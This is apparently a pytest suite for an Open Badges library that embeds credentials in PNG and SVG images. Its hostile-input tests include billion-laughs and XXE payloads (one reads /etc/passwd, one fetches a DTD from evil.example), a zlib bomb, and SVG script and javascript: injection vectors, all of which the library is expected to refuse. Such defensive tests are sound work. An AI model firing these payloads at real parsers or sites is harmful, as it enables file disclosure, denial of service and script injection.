"""Baking and unbaking PNG/SVG for Open Badges 2.0 and 3.0: round trips, re-baking, untouched bytes, the shared
baked fixtures, and malformed or hostile images (one-line InputErrors, never a traceback or a hang)."""

from __future__ import annotations

import json
import re
import struct
import zlib
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openbadge_ctq import Recipient, SigningKey, issue_credential, load_catalog, verify
from openbadge_ctq.bake import (
    OB2_NAMESPACE,
    OB3_NAMESPACE,
    Baked,
    bake_image,
    bake_png,
    bake_svg,
    check_badge_art,
    payload_format,
    payload_version,
    sniff_image,
    unbake_image,
    unbake_png,
    unbake_svg,
)
from openbadge_ctq.errors import BakeError, InputError, UnsupportedError

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO.parent / "shared" / "vectors" / "fixtures" / "ob-v2p0"
BAKERY = FIXTURES / "openbadges-bakery"
ART = REPO / "issuers" / "ctq" / "images" / "wpi-colleagues.svg"
NOW = datetime(2026, 1, 2, tzinfo=UTC)
KEY = SigningKey(Ed25519PrivateKey.from_private_bytes(b"\x01" * 32), "k")

HEART = (BAKERY / "public_domain_heart.png").read_bytes()
PLAIN_SVG = (BAKERY / "unbaked_example.svg").read_bytes()
CATALOG_SVG = ART.read_bytes()
FAST = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    """(type, whole chunk bytes) for every chunk of a PNG."""
    out, pos = [], 8
    while pos < len(png):
        (length,) = struct.unpack_from(">I", png, pos)
        out.append((png[pos + 4 : pos + 8], png[pos : pos + 12 + length]))
        pos += 12 + length
    return out


def chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def with_chunk(png: bytes, extra: bytes) -> bytes:
    """``png`` with ``extra`` inserted just after IHDR."""
    return png[:33] + extra + png[33:]


def root_tag_end(svg: bytes) -> int:
    return svg.index(b">", svg.index(b"<svg")) + 1


def assert_one_line(exc: pytest.ExceptionInfo[BaseException]) -> None:
    message = str(exc.value)
    assert message and "\n" not in message and "Traceback" not in message


# ----------------------------------------------------------------------------------------------------
# payload strategies

_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | _TEXT | st.sampled_from(["]]>", "</openbadges:credential>", "é ñ ü"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_TEXT, inner, max_size=4),
    max_leaves=12,
)
JSON_PAYLOADS = st.builds(
    lambda doc, indent: json.dumps(doc, ensure_ascii=False, indent=indent),
    st.dictionaries(_TEXT, _JSON_VALUES, min_size=1, max_size=5),
    st.sampled_from([None, 2]),
)
JWS_PAYLOADS = st.from_regex(r"[A-Za-z0-9_-]{4,80}\.[A-Za-z0-9_-]{1,300}\.[A-Za-z0-9_-]{4,90}", fullmatch=True)
URL_PAYLOADS = st.from_regex(r"https://[a-z]{1,12}\.example/[A-Za-z0-9_~.-]{0,30}", fullmatch=True)
OB3_PAYLOADS = JSON_PAYLOADS | JWS_PAYLOADS
OB2_PNG_PAYLOADS = JSON_PAYLOADS | JWS_PAYLOADS | URL_PAYLOADS
# an OB 2.0 assertion baked into SVG as JSON carries its hosted URL in the verify attribute
OB2_SVG_PAYLOADS = (
    st.builds(
        lambda extra, url: json.dumps({**extra, "verify": {"type": "hosted", "url": url}}, ensure_ascii=False),
        st.dictionaries(_TEXT, _JSON_VALUES, max_size=4),
        URL_PAYLOADS,
    )
    | JWS_PAYLOADS
    | URL_PAYLOADS
)


def png_cases() -> st.SearchStrategy[tuple[int, str]]:
    return st.tuples(st.just(3), OB3_PAYLOADS) | st.tuples(st.just(2), OB2_PNG_PAYLOADS)


def svg_cases() -> st.SearchStrategy[tuple[int, str]]:
    return st.tuples(st.just(3), OB3_PAYLOADS) | st.tuples(st.just(2), OB2_SVG_PAYLOADS)


# ----------------------------------------------------------------------------------------------------
# PNG properties


@FAST
@given(png_cases())
def test_png_round_trip(case: tuple[int, str]) -> None:
    version, payload = case
    found = unbake_png(bake_png(HEART, payload, ob_version=version))
    assert found.payload == payload
    assert (found.kind, found.container, found.chunk, found.compressed) == (f"ob{version}", "png", "iTXt", False)


@FAST
@given(png_cases(), png_cases())
def test_png_rebake_replaces_and_leaves_every_other_chunk(first: tuple[int, str], second: tuple[int, str]) -> None:
    once = bake_png(HEART, first[1], ob_version=first[0])
    twice = bake_png(once, second[1], ob_version=second[0])
    assert unbake_png(twice).payload == second[1]
    original, baked = chunks(HEART), chunks(twice)
    inserted = [c for c in baked if c[0] == b"iTXt"]
    assert len(inserted) == 1
    assert [c for c in baked if c[0] != b"iTXt"] == original  # every other chunk byte for byte, in order
    assert [t for t, _ in baked][-2:] == [b"iTXt", b"IEND"]  # inserted just before IEND
    assert twice == bake_png(HEART, second[1], ob_version=second[0])


def test_png_chunk_is_uncompressed_itxt_with_empty_language_and_translated_keyword() -> None:
    baked = bake_png(HEART, "eyJhIjoxfQ.eyJiIjoyfQ.c2lnbmF0dXJl")
    [(_, raw)] = [c for c in chunks(baked) if c[0] == b"iTXt"]
    assert raw[8:-4] == b"openbadgecredential\0\0\0\0\0eyJhIjoxfQ.eyJiIjoyfQ.c2lnbmF0dXJl"
    baked2 = bake_png(HEART, "https://example.org/assertions/1", ob_version=2)
    [(_, raw2)] = [c for c in chunks(baked2) if c[0] == b"iTXt"]
    assert raw2[8:-4] == b"openbadges\0\0\0\0\0https://example.org/assertions/1"


def test_png_payload_is_normalized_and_utf8() -> None:
    payload = '\r\n  {"name": "José Núñez",\r\n "ü": 1}  \n'
    found = unbake_png(bake_png(HEART, payload))
    assert found.payload == '{"name": "José Núñez",\n "ü": 1}'
    assert found.payload_bytes == len(found.payload.encode("utf-8"))


def test_png_compressed_itxt_and_legacy_text_are_read() -> None:
    text = '{"@context": "https://w3id.org/openbadges/v2", "id": "https://example.org/a"}'
    compressed = b"openbadges\0\1\0\0\0" + zlib.compress(text.encode())
    found = unbake_png(with_chunk(HEART, chunk(b"iTXt", compressed)))
    assert (found.payload, found.kind, found.compressed) == (text, "ob2", True)
    legacy = with_chunk(HEART, chunk(b"tEXt", b"openbadges\0https://example.org/assertion.json"))
    found = unbake_png(legacy)
    assert (found.payload, found.kind, found.chunk) == ("https://example.org/assertion.json", "ob2", "tEXt")
    rebaked = bake_png(legacy, "eyJhIjoxfQ.eyJiIjoyfQ.c2ln")
    assert b"tEXt" not in [t for t, _ in chunks(rebaked)]
    assert unbake_png(rebaked).kind == "ob3"


def test_png_with_two_credentials_is_refused_and_rebaking_repairs_it() -> None:
    other = chunk(b"tEXt", b"Comment\0made with love")
    first = chunk(b"iTXt", b"openbadges\0\0\0\0\0https://a.example/1")
    two = with_chunk(HEART, first + chunk(b"iTXt", b"openbadges\0\0\0\0\0x") + other)
    with pytest.raises(BakeError, match="2 baked credential chunks"):
        unbake_png(two)
    rebaked = bake_png(two, "https://b.example/2", ob_version=2)
    itxt = next(raw for ctype, raw in chunks(rebaked) if ctype == b"iTXt")
    assert itxt == chunk(b"iTXt", b"openbadges\0\0\0\0\0https://b.example/2")
    assert other in rebaked and rebaked.count(b"openbadges") == 1


# ----------------------------------------------------------------------------------------------------
# SVG properties


@FAST
@given(svg_cases(), st.sampled_from([PLAIN_SVG, CATALOG_SVG]))
def test_svg_round_trip_and_untouched_bytes(case: tuple[int, str], svg: bytes) -> None:
    version, payload = case
    baked = bake_svg(svg, payload, ob_version=version)
    found = unbake_svg(baked)
    assert found.payload == payload
    assert found.kind == f"ob{version}" and found.container == "svg"
    assert found.chunk == ("openbadges:credential" if version == 3 else "openbadges:assertion")
    end = root_tag_end(svg)
    namespace = (OB3_NAMESPACE if version == 3 else OB2_NAMESPACE).encode()
    # everything before the root tag's '>' and everything after the root tag is unchanged
    assert baked.startswith(svg[: end - 1] + b' xmlns:openbadges="' + namespace + b'">')
    assert baked.endswith(svg[end:])
    between = baked[len(svg[: end - 1]) : len(baked) - len(svg) + end]
    assert between.count(b"<openbadges:") == 1  # the element sits directly after <svg …>


@FAST
@given(svg_cases(), svg_cases())
def test_svg_rebake_replaces(first: tuple[int, str], second: tuple[int, str]) -> None:
    once = bake_svg(CATALOG_SVG, first[1], ob_version=first[0])
    twice = bake_svg(once, second[1], ob_version=second[0])
    assert twice == bake_svg(CATALOG_SVG, second[1], ob_version=second[0])
    assert unbake_svg(twice).payload == second[1]
    assert twice.count(b"<openbadges:") == 1


def test_svg_element_shapes() -> None:
    jws = "eyJhIjoxfQ.eyJiIjoyfQ.c2ln"
    assert b'<openbadges:credential verify="eyJhIjoxfQ.eyJiIjoyfQ.c2ln"/>' in bake_svg(PLAIN_SVG, jws)
    assert b"<openbadges:credential><![CDATA[{}]]></openbadges:credential>" in bake_svg(PLAIN_SVG, "{}")
    hosted = json.dumps({"id": "https://example.org/a.json?x=1&y=2"})
    baked = bake_svg(PLAIN_SVG, hosted, ob_version=2)
    assert b'<openbadges:assertion verify="https://example.org/a.json?x=1&amp;y=2"><![CDATA[' in baked
    assert unbake_svg(baked).verify == "https://example.org/a.json?x=1&y=2"
    tricky = json.dumps({"text": "a ]]> b"})
    assert unbake_svg(bake_svg(PLAIN_SVG, tricky)).payload == tricky
    with pytest.raises(InputError, match="hosted URL"):
        bake_svg(PLAIN_SVG, json.dumps({"uid": "1"}), ob_version=2)


def test_svg_str_input_self_closing_root_and_bom() -> None:
    assert unbake_svg(bake_svg('<svg xmlns="http://www.w3.org/2000/svg"/>', "{}")).payload == "{}"
    with_bom = "\ufeff".encode() + PLAIN_SVG
    baked = bake_svg(with_bom, "{}")
    assert baked.startswith("\ufeff".encode()) and unbake_svg(baked).payload == "{}"


def test_svg_rebake_of_the_bakery_fixture_switches_version() -> None:
    source = (BAKERY / "baked_example.svg").read_bytes()
    baked = bake_svg(source, "eyJhIjoxfQ.eyJiIjoyfQ.c2ln")
    assert b"openbadges:assertion" not in baked and baked.count(b"<openbadges:credential") == 1
    assert b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked and OB2_NAMESPACE.encode() not in baked
    assert unbake_svg(baked).kind == "ob3"


# ----------------------------------------------------------------------------------------------------
# the shared baked fixtures (1EdTech openbadges-bakery and validator-core)


def test_unbake_bakery_png() -> None:
    found = unbake_image((BAKERY / "baked_heart.png").read_bytes())
    assert (found.container, found.kind, found.chunk, found.payload_format) == ("png", "ob2", "iTXt", "json")
    assertion = json.loads(found.payload)
    assert assertion["recipient"]["identity"] == "test@example.com"
    assert assertion["verify"] == {"type": "hosted", "url": "http://example.org/badgeinstance1"}


def test_unbake_validator_core_png() -> None:
    found = unbake_image((FIXTURES / "validator-core" / "baked_heart.png").read_bytes())
    assertion = json.loads(found.payload)
    assert assertion["@context"] == "https://w3id.org/openbadges/v2" and assertion["type"] == "Assertion"
    assert "recipient" in assertion and assertion["id"].startswith("https://")
    assert payload_version(found.payload) == 2


def test_unbake_bakery_svg() -> None:
    found = unbake_image((BAKERY / "baked_example.svg").read_bytes())
    assert (found.container, found.kind, found.chunk) == ("svg", "ob2", "openbadges:assertion")
    assert found.verify == "https://example.org/assertion.json"
    assertion = json.loads(found.payload)
    assert assertion["uid"] == "abcdef12345" and assertion["verify"]["url"] == found.verify


@pytest.mark.parametrize(
    "path",
    [BAKERY / "public_domain_heart.png", BAKERY / "unbaked_example.svg", ART],
    ids=["png", "svg", "catalog-svg"],
)
def test_unbaked_images_have_no_credential(path: Path) -> None:
    with pytest.raises(InputError, match="has no baked credential") as exc:
        unbake_image(path.read_bytes(), name=path.name)
    assert_one_line(exc)
    assert str(exc.value).startswith(path.name + ": ")


# ----------------------------------------------------------------------------------------------------
# real credentials: bake, unbake, verify


@pytest.fixture(scope="module")
def issued() -> dict[str, Any]:
    catalog = load_catalog()
    recipient = Recipient(email="teacher@example.org", name="José Núñez")
    return {
        fmt: issue_credential(
            catalog, "writing-publicly-to-influence-colleagues", recipient, KEY, fmt=fmt, now=NOW
        ).document
        for fmt in ("ob3-di", "ob3-jwt")
    }


@pytest.mark.parametrize("fmt", ["ob3-di", "ob3-jwt"])
@pytest.mark.parametrize("image", [HEART, CATALOG_SVG], ids=["png", "svg"])
def test_baked_credentials_verify(issued: dict[str, Any], fmt: str, image: bytes) -> None:
    document = issued[fmt]
    assert payload_version(document) == 3
    baked = bake_image(image, document)
    found = unbake_image(baked)
    assert found.payload == document.strip() and found.kind == "ob3"
    assert found.payload_format == ("json" if fmt == "ob3-di" else "jws")
    report = verify(found.payload, now=NOW, recipient="teacher@example.org")
    assert report.verified, [c.message for c in report.errors]


def test_baked_to_json_describes_the_image_not_the_payload() -> None:
    found = unbake_image(bake_image(HEART, "eyJhIjoxfQ.eyJiIjoyfQ.c2ln", ob_version=3))
    assert found.to_json() == {
        "container": "png",
        "kind": "ob3",
        "chunk": "iTXt",
        "compressed": False,
        "payloadFormat": "jws",
        "payloadBytes": 26,
        "verify": None,
    }
    assert isinstance(found, Baked)


# ----------------------------------------------------------------------------------------------------
# payloads


def test_payload_version() -> None:
    assert payload_version("https://example.org/assertion.json") == 2
    assert payload_version('{"@context": "https://w3id.org/openbadges/v2", "type": "Assertion"}') == 2
    assert payload_version('{"@context": ["https://www.w3.org/ns/credentials/v2"]}') == 3
    with pytest.raises(InputError, match="cannot tell the Open Badges version") as exc:
        payload_version('{"@context": "https://schema.org"}')
    assert exc.value.hint and "--ob-version" in exc.value.hint


@pytest.mark.parametrize(
    ("payload", "version", "message"),
    [
        ("   ", 3, "is empty"),
        ('{"a": "\x01"}', 3, "U\\+0001"),
        ("hello", 3, "must be JSON, a compact JWS"),
        ("{not json}", 3, "not valid JSON"),
        ("https://example.org/a.json", 3, "not as a URL"),
    ],
)
def test_bad_payloads(payload: str, version: int, message: str) -> None:
    for bake in (bake_png, bake_svg):
        image = HEART if bake is bake_png else PLAIN_SVG
        with pytest.raises(InputError, match=message) as exc:
            bake(image, payload, ob_version=version)
        assert_one_line(exc)


def test_unsupported_version() -> None:
    with pytest.raises(UnsupportedError, match="expected 2 or 3"):
        bake_png(HEART, "{}", ob_version=4)


def test_payload_format() -> None:
    assert payload_format("{}") == "json"
    assert payload_format("a.b.c") == "jws"
    assert payload_format("http://x.example/") == "url"
    assert payload_format("plain words") is None


# ----------------------------------------------------------------------------------------------------
# sniffing


def test_sniff_image_by_content() -> None:
    assert sniff_image(HEART) == "png"
    assert sniff_image(PLAIN_SVG) == "svg"
    assert sniff_image(b'<?xml version="1.0"?>\n<!-- art -->\n<svg xmlns="http://www.w3.org/2000/svg"/>') == "svg"
    assert sniff_image(b'{"@context": "<svg>"}') is None
    assert sniff_image(b"") is None
    with pytest.raises(InputError, match="not a PNG or SVG image"):
        unbake_image(b"GIF89a....")


# ----------------------------------------------------------------------------------------------------
# malformed PNG


def _corrupt_crc(png: bytes) -> bytes:
    idat = png.index(b"IDAT")
    return png[: idat + 10] + bytes([png[idat + 10] ^ 0xFF]) + png[idat + 11 :]


def _huge_length(png: bytes) -> bytes:
    idat = png.index(b"IDAT") - 4
    return png[:idat] + struct.pack(">I", 0x7FFFFFFF) + png[idat + 4 :]


def _long_length(png: bytes) -> bytes:
    idat = png.index(b"IDAT") - 4
    return png[:idat] + struct.pack(">I", 5000) + png[idat + 4 :]


MALFORMED_PNGS = {
    "truncated": (HEART[: len(HEART) // 2], "truncated"),
    "signature-only": (HEART[:8], "ends without an IEND"),
    "bad-crc": (_corrupt_crc(HEART), "bad CRC"),
    "huge-chunk-length": (_huge_length(HEART), "more than the limit"),
    "length-past-end": (_long_length(HEART), "truncated"),
    "no-ihdr": (HEART[:8] + HEART[33:], "not IHDR"),
    "no-iend": (HEART[:-12], "ends without an IEND"),
    "trailing-bytes": (HEART + b"junk", "after its IEND"),
    "no-idat": (HEART[:33] + HEART[-12:], "no IDAT"),
    "bad-chunk-type": (HEART[:37] + b"1234" + HEART[41:], "invalid type"),
    "zip-bomb": (with_chunk(HEART, chunk(b"iTXt", b"openbadges\0\1\0\0\0" + zlib.compress(b"0" * 50_000_000))), "more"),
    "corrupt-zlib": (with_chunk(HEART, chunk(b"iTXt", b"openbadges\0\1\0\0\0not zlib")), "corrupt"),
    "bad-itxt": (with_chunk(HEART, chunk(b"iTXt", b"openbadgecredential\0")), "malformed"),
    "bad-utf8": (with_chunk(HEART, chunk(b"iTXt", b"openbadges\0\0\0\0\0\xff\xfe")), "not valid UTF-8"),
}


BROKEN_BAKED_CHUNK = {"zip-bomb", "corrupt-zlib", "bad-itxt", "bad-utf8"}


@pytest.mark.timeout(10)
@pytest.mark.parametrize("case", sorted(MALFORMED_PNGS))
def test_malformed_png(case: str) -> None:
    data, message = MALFORMED_PNGS[case]
    with pytest.raises(InputError, match=message) as exc:
        unbake_png(data)
    assert_one_line(exc)
    if case in BROKEN_BAKED_CHUNK:  # the image is fine: baking replaces the broken chunk without reading it
        assert unbake_png(bake_png(data, "{}")).payload == "{}"
    else:
        with pytest.raises(InputError) as exc:
            bake_png(data, "{}")
        assert_one_line(exc)


def test_not_an_image() -> None:
    for data in (b"", b"hello world", b"\x00" * 100, json.dumps({"a": 1}).encode()):
        with pytest.raises(InputError) as exc:
            unbake_image(data)
        assert_one_line(exc)
        with pytest.raises(InputError):
            bake_image(data, "{}", ob_version=3)


# ----------------------------------------------------------------------------------------------------
# hostile SVG

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">
<openbadges:assertion verify="https://example.org/a.json"><![CDATA[{}]]></openbadges:assertion>
<text>&lol9;</text></svg>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "svg", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["laughs", "xxe", "dtd", "param"]
)
def test_entities_and_doctype_are_refused_everywhere(svg: bytes) -> None:
    for action in (lambda: unbake_svg(svg), lambda: bake_svg(svg, "{}"), lambda: check_badge_art(svg)):
        with pytest.raises(InputError, match="DOCTYPE") as exc:
            action()
        assert_one_line(exc)


SVG_HEAD = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

UNSAFE_ART = {
    "script": SVG_HEAD + b"><script>alert(1)</script></svg>",
    "namespaced-script": SVG_HEAD + b' xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
    "onload": SVG_HEAD + b' onload="alert(1)"/>',
    "onclick": SVG_HEAD + b'><circle r="4" onclick="alert(1)"/></svg>',
    "javascript-href": SVG_HEAD + b'><a href=" java\tscript:alert(1)"><text>x</text></a></svg>',
    "javascript-xlink": SVG_HEAD + b'><a xlink:href="JavaScript:alert(1)"><text>x</text></a></svg>',
    "animate-to-javascript": SVG_HEAD + b'><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    "foreign-object": SVG_HEAD + b"><foreignObject><div>hi</div></foreignObject></svg>",
    "external-image": SVG_HEAD + b'><image xlink:href="https://tracker.example/p.png"/></svg>',
    "external-use": SVG_HEAD + b'><use href="other.svg#icon"/></svg>',
    "css-url": SVG_HEAD + b'><rect style="fill: url(https://x.example/f.svg#p)"/></svg>',
    "css-import": SVG_HEAD + b"><style>@import 'https://x.example/s.css';</style></svg>",
    "xml-stylesheet": b'<?xml-stylesheet href="https://x.example/s.css"?>' + SVG_HEAD + b"/>",
    "xinclude": SVG_HEAD + b' xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x.svg"/></svg>',
}


@pytest.mark.parametrize("case", sorted(UNSAFE_ART))
def test_unsafe_art_is_refused_on_bake(case: str) -> None:
    svg = UNSAFE_ART[case]
    with pytest.raises(InputError, match=r"refused|external resource|only '#fragment'") as exc:
        bake_svg(svg, "eyJhIjoxfQ.eyJiIjoyfQ.c2ln")
    assert_one_line(exc)
    with pytest.raises(InputError):
        check_badge_art(svg)


def test_scripts_are_refused_with_the_documented_message() -> None:
    with pytest.raises(InputError, match="badge art containing scripts or event handlers is refused on bake"):
        bake_svg(UNSAFE_ART["script"], "{}")
    with pytest.raises(InputError, match="badge art containing scripts or event handlers is refused on bake"):
        bake_svg(UNSAFE_ART["onload"], "{}")


def test_local_references_are_allowed() -> None:
    art = (
        SVG_HEAD + b'><defs><linearGradient id="g"/></defs><rect style="fill:url(#g)"/>'
        b'<use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'
    )
    check_badge_art(art)
    assert unbake_svg(bake_svg(art, "{}")).payload == "{}"


def test_unbake_tolerates_scripts() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" '
        b'onload="x()"><openbadges:credential verify="a.b.c"/><script>x()</script></svg>'
    )
    assert unbake_svg(svg).payload == "a.b.c"


@pytest.mark.parametrize(
    ("svg", "message"),
    [
        (b"<svg><rect></svg>", "not a well-formed SVG"),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "not <svg>"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><text>é</text></svg>'.encode("latin-1"), "not UTF-8"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>', "only UTF-8"),
        (b"<svg " + b" " * (6 * 1024 * 1024) + b"/>", "larger than"),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
            b"<openbadges:credential>  </openbadges:credential></svg>",
            "is empty",
        ),
    ],
    ids=["not-well-formed", "not-svg", "latin-1", "declared-latin-1", "too-large", "empty-element"],
)
def test_malformed_svg(svg: bytes, message: str) -> None:
    with pytest.raises(InputError, match=message) as exc:
        unbake_svg(svg)
    assert_one_line(exc)


def test_svg_error_messages_name_the_file() -> None:
    with pytest.raises(InputError, match=r"^art\.svg: badge art containing scripts"):
        bake_svg(UNSAFE_ART["script"], "{}", name="art.svg")


def test_catalog_art_is_safe() -> None:
    for path in sorted((REPO / "issuers").glob("*/images/*.svg")):
        check_badge_art(path.read_bytes(), name=path.name)


def test_bake_does_not_touch_other_namespaced_content() -> None:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<!-- <openbadges:credential>{}</openbadges:credential> --><dc:title>t</dc:title></svg>"
    )
    baked = bake_svg(svg, "{}")
    assert b"<!-- <openbadges:credential>{}</openbadges:credential> -->" in baked
    assert re.search(rb"<openbadges:credential><!\[CDATA\[\{\}\]\]></openbadges:credential><!--", baked)
